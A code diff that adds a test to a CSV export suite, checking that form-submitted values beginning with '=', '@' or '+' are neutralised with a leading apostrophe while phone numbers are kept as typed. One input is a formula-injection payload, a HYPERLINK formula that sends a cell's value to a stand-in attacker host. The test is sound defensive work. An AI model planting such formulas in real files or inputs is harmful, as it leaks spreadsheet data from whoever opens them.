@@ -36,4 +36,32 @@ describe('request export to CSV', () => {
     // Editors have no access to requests, so no export of them either.
     expect((await fetchAs('editor', `/items/requests?export=csv&fields=${fields}`)).status).toBe(403);
   });
+
+  it('exports no live spreadsheet formula, in either CSV format, and phone numbers as typed', async () => {
+    const company = `@SUM(1+1) ${randomUUID().slice(0, 8)}`;
+    const lastName = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
+    const token = await matureFormToken(await fetchDefinition());
+    const response = await postForm(
+      'submit',
+      validRequest(token, { company, last_name: lastName, title: '+1-1', phone: '+1 503 555 0148' }),
+      { key: randomUUID() },
+    );
+    expect(response.status).toBe(201);
+
+    for (const format of ['csv', 'csv_utf8']) {
+      const exported = await fetchAs(
+        'staff',
+        `/items/requests?export=${format}&fields=last_name,company,title,phone&filter[company][_eq]=${encodeURIComponent(company)}`,
+      );
+      expect(exported.status).toBe(200);
+      const row = (await exported.text()).trim().split('\n')[1];
+      expect(row).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")","'${company}","'+1-1","+1 503 555 0148"`);
+    }
+    // What staff read in the admin is what the prospect typed.
+    const read = await fetchAs(
+      'staff',
+      `/items/requests?fields=last_name&filter[company][_eq]=${encodeURIComponent(company)}`,
+    );
+    expect(((await read.json()) as { data: { last_name: string }[] }).data[0]!.last_name).toBe(lastName);
+  });
 });
